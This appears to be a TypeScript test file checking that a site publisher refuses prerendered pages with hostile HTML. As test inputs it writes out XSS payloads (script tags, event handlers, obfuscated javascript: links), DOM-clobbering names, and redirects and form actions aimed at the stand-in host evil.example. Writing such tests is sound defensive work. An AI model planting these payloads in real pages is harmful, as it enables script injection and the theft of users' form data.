import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { SiteFolder } from '../../testing/SiteFolder'
import { expectHostileRefused, type Hostile } from '../../testing/expectRefused'

/** One for all tests: a refusal does not change it. */
let folder: SiteFolder
beforeAll(() => {
  folder = SiteFolder.live()
})
afterAll(() => folder.remove())

const PAGE = { path: '/user/home', title: 'Home', description: 'Home', html: '<p>Home</p>', css: '' }
/** A learner release with one prerendered page. */
const withPage = (page: Partial<typeof PAGE>, path = '/user/home'): Pick<Hostile, 'changes' | 'files'> => ({
  changes: {
    exposes: { './frame': [], './routes': [{ id: 'home', path: 'home' }] },
    prerendered: { [path]: 'page.json' },
  },
  files: { 'page.json': JSON.stringify({ ...PAGE, path, ...page }) },
})
const withHtml = (what: string, html: string, says: RegExp): Hostile => ({
  what,
  ...withPage({ html }),
  says,
})

const PAGES: Hostile[] = [
  {
    what: 'a page at an address of another area',
    ...withPage({}, '/mentors'),
    says: /The address \/mentors does not belong to learner/,
  },
  {
    what: 'a page at an address of another mount',
    ...withPage({}, '/user/resources/c1'),
    says: /The address \/user\/resources\/c1 does not belong to learner/,
  },
  {
    what: 'a page for every address',
    area: 'public',
    changes: { prerendered: { '/app': 'page.json' } },
    files: { 'page.json': JSON.stringify({ ...PAGE, path: '/app' }) },
    says: /The address \/app does not belong to public/,
  },
  {
    what: 'a page with another path than stated',
    ...withPage({ path: '/mentors' }),
    says: /is the page "\/mentors"/,
  },
  {
    what: 'a page that is not JSON',
    ...withPage({}),
    files: { 'page.json': '<html>' },
    says: /The prerendered page \/user\/home \(page\.json\) is not a prerendered page: take it out/,
  },
  {
    what: 'a title that closes its element',
    ...withPage({ title: '</title><script src=/x.js></script>' }),
    says: /is not a prerendered page/,
  },
  {
    what: 'styles that close their element',
    ...withPage({ css: 'a{}</style><script src=/x.js></script>' }),
    says: /has styles that end their element/,
  },
  withHtml('a script', '<script src="/remotes/learner/r2/x.js"></script>', /has <script>/),
  withHtml('a script in a drawing', '<svg><script href="/x.js"></script></svg>', /has <script>/),
  withHtml('an event handler', '<img src="/x.png" onerror="alert(1)">', /has onerror="…" on <img>/),
  withHtml(
    'a link that runs code',
    '<a href="javascript:alert(1)">a</a>',
    /has href="javascript:alert\(1\)" on <a>/,
  ),
  withHtml('a disguised link', '<a href=" ja&#10;vascript:alert(1)">a</a>', /has href=/),
  withHtml('a link that is a document', '<a href="data:text/html,x">a</a>', /has href="data:/),
  withHtml('another base', '<base href="https://evil.example/">', /has <base>/),
  withHtml('a redirect', '<meta http-equiv="refresh" content="0;url=//evil.example">', /has <meta>/),
  withHtml('a frame', '<iframe src="https://evil.example"></iframe>', /has <iframe>/),
  withHtml(
    'a form to another site',
    '<form action="https://evil.example/take"></form>',
    /has action="https:\/\/evil/,
  ),
  withHtml('a protocol-relative form action', '<form action="//evil.example"></form>', /has action=/),
  withHtml(
    'a button with another form action',
    '<button formaction="https://evil.example">',
    /has formaction="…"/,
  ),
  withHtml('a style sheet', '<link rel="stylesheet" href="/x.css">', /has <link>/),
  withHtml('an object', '<object data="/x.svg"></object>', /has <object>/),
  withHtml('a template', '<template><script></script></template>', /has <template>/),
  withHtml('content without JavaScript', '<noscript><script></script></noscript>', /has <noscript>/),
  withHtml(
    'a picture in a drawing from another site',
    '<svg><use href="https://evil.example/x.svg#a"/></svg>',
    /has href=/,
  ),
  withHtml('a drawing that animates a link', '<svg><animate attributeName="href"/></svg>', /has <animate>/),
  withHtml('the id of the registry', '<div id="mc-registry">{}</div>', /has the id "mc-registry"/),
  withHtml('the name of a global', '<p id="mcIntegrity">{}</p>', /has the id "mcIntegrity"/),
  withHtml(
    'a name that hides a member of the document',
    '<img name="getElementById">',
    /has name="…" on <img>/,
  ),
  withHtml('a link in a drawing', '<svg><a xlink:href="javascript:alert(1)"></a></svg>', /has xlink:href=/),
  withHtml('more closing than opening tags', '</div></div><p>outside</p>', /has tags that do not match/),
  withHtml('more opening than closing tags', '<textarea>', /has tags that do not match/),
  withHtml('an unclosed comment', '<!--', /has tags that do not match/),
  withHtml('attributes for the body', '<body onload="alert(1)">', /changes elements of the page around it/),
]

test.each(PAGES)('$what is refused with a message', (hostile) => expectHostileRefused(folder, hostile))

test('a page at an own address goes live with its content', () => {
  const html =
    '<main id="main"><h1>Home</h1><a href="/user/explore">Explore</a><form role="search"></form></main>'
  const { changes, files } = withPage({ html, css: '.a>b{color:red}' })
  folder.publish('learner', folder.built('learner', 'r3', changes, files))
  expect(readFileSync(join(folder.site.dir, 'live/user/home.html'), 'utf8')).toContain(html)
})
